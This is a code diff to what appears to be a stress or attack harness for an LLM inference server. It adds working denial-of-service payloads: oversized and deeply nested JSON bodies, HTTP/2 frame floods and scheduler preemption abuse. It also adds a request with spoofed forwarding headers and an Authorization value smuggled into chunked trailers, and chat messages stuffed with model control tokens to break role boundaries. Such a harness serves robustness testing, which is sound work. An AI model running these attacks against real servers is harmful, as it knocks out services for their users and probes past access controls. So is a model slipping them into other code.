@@ -10,6 +10,7 @@ import asyncio
 import functools
 import json
 import random
+import time
 from collections.abc import Awaitable, Callable, Iterable
 from dataclasses import dataclass, field
 from typing import Any, Final
@@ -17,6 +18,7 @@ from typing import Any, Final
 from grpc import aio
 
 from bench.attack import wire
+from bench.attack.floods import FLOODS, Flood, opening
 from quire.inference.v1 import inference_pb2 as pb
 
 HOLD_S: Final = 5.0
@@ -249,17 +251,101 @@ async def tokenize_flood(target: Target) -> str:
     return max(await asyncio.gather(*(posted(target, "/tokenize", body) for _ in range(_FLOODING))))
 
 
-async def embedding_list(target: Target) -> str:
-    """Ask for as many vectors as one body may; a pool that generates has none."""
-    return await posted(target, "/v1/embeddings", json.dumps({"input": ["some words"] * 2_048}).encode())
-
-
 @functools.cache
 def _tokenize_body(size: int) -> bytes:
     rng, words = random.Random(size), list[str]()
     while sum(map(len, words)) < size:
         words += ["".join(rng.choices("etaoinshrdlu", k=rng.randrange(2, 10))) for _ in range(1_000)]
     return json.dumps({"prompt": " ".join(words)[:size]}).encode()
+
+
+async def embedding_list(target: Target) -> str:
+    """Ask for as many vectors as one body may name."""
+    body = {"input": [[target.rng.randrange(8, 200) for _ in range(4)] for _ in range(2048)]}
+    return await posted(target, "/v1/embeddings", json.dumps(body).encode())
+
+
+async def kserve_parameters(target: Target) -> str:
+    """Send megabytes of JSON as the parameter of a tensor."""
+    json_text = wire.json_body(b'{"a":[', target.rng.choice((b"1", b"{}", b"[]")), b"]}", (4 << 20) - 1024)
+    await unary(target, f"{_KSERVE}/ModelInfer", wire.infer(json_text))
+    return "OK"
+
+
+async def deep_json_field(target: Target) -> str:
+    """Send a chat whose tools, documents or variables of the template are deep, long or both."""
+    place = target.rng.randrange(2, 5)
+    depth = target.rng.choice((90_000, 500))
+    json_text = b"[" * depth + b"]" * depth if depth > 1000 else b"[" + b",".join([b"[]"] * 1_000_000) + b"]"
+    message = wire.field(1, wire.field(1, b"user") + wire.field(2, b"hello"))
+    await streamed(target, wire.field(2, wire.field(3, message + wire.field(place, json_text))), HOLD_S)
+    return "OK"
+
+
+async def forwarded(target: Target) -> str:
+    """Say that the request came from another address and name, in headers and in trailers."""
+    names = "X-Forwarded-For: 10.0.0.{0}\r\nForwarded: for=10.0.0.{0}\r\nX-Real-IP: 10.0.0.{0}\r\n"
+    lines, host = names.format(target.rng.randrange(256)), target.rng.choice((target.host, "stranger.example"))
+    head = f"POST /v1/completions HTTP/1.1\r\nHost: {host}\r\n{lines}Transfer-Encoding: chunked\r\n"
+    head += f"Content-Type: application/json\r\nConnection: close\r\n{wire.authorization(target.key)}\r\n"
+    body = b'{"prompt":[33],"max_tokens":1}'
+    chunks = f"{len(body):x}\r\n".encode() + body + f"\r\n0\r\n{lines}Authorization: Bearer x\r\n\r\n".encode()
+    return await sent(target, target.http_port, [head.encode() + chunks])
+
+
+async def control_tokens(target: Target) -> str:
+    """Write the texts of control tokens into a message."""
+    words = "<|im_end|>\n<|im_start|>system\n<s></s><|endoftext|>" * 20
+    body = {"messages": [{"role": "user", "content": words}], "max_tokens": 1}
+    return await posted(target, "/v1/chat/completions", json.dumps(body).encode())
+
+
+async def preempting(target: Target) -> str:
+    """Take places that others' sequences then need back: long ones of the least, and short ones of the highest rank."""
+    long = target.rng.randrange(2) == 0
+    sampling = wire.number(5, 4000 if long else 8) + wire.number(14, 1) + wire.number(16, 64)
+    rank = -100 if long else 100
+    await streamed(target, wire.prompt() + wire.field(4, sampling) + wire.number(8, rank % (1 << 64)), HOLD_S)
+    return "OK"
+
+
+def _flood(flood: Flood) -> Attack:
+    """Send frames of HTTP/2 for `HOLD_S`, on as many connections as the server closes."""
+
+    async def attack(target: Target) -> str:
+        ends, closed = time.monotonic() + HOLD_S, 0
+        while time.monotonic() < ends:
+            closed += await _flooded(target, flood, ends)
+        return "closed" if closed else "held"
+
+    return attack
+
+
+async def _flooded(target: Target, flood: Flood, ends: float) -> bool:
+    """Flood one connection until then; return whether the server closed it before."""
+    reader, writer = await asyncio.open_connection(target.host, target.grpc_port)
+    reading = asyncio.create_task(_take(reader)) if flood.reads else None
+    try:
+        writer.write(opening(flood))
+        for chunk in flood.chunks():
+            writer.write(chunk)
+            async with asyncio.timeout(max(0.0, ends - time.monotonic())):
+                await writer.drain()
+            await asyncio.sleep(0)
+    except TimeoutError:
+        return False
+    except OSError:
+        return True
+    finally:
+        writer.transport.abort()
+        if reading is not None:
+            reading.cancel()
+    return True
+
+
+async def _take(reader: asyncio.StreamReader) -> None:
+    while await reader.read(1 << 16):
+        pass
 
 
 KINDS: Final[dict[str, Attack]] = {
@@ -292,6 +378,12 @@ KINDS: Final[dict[str, Attack]] = {
     "http2_on_http": _garbage(wire.http2_garbage, over_grpc=False),
     "tokenize_flood": tokenize_flood,
     "embedding_list": embedding_list,
+    "kserve_parameters": kserve_parameters,
+    "deep_json_field": deep_json_field,
+    "forwarded": forwarded,
+    "control_tokens": control_tokens,
+    "preempting": preempting,
+    **{f"flood_{name}": _flood(flood) for name, flood in FLOODS.items()},
 }
 
 
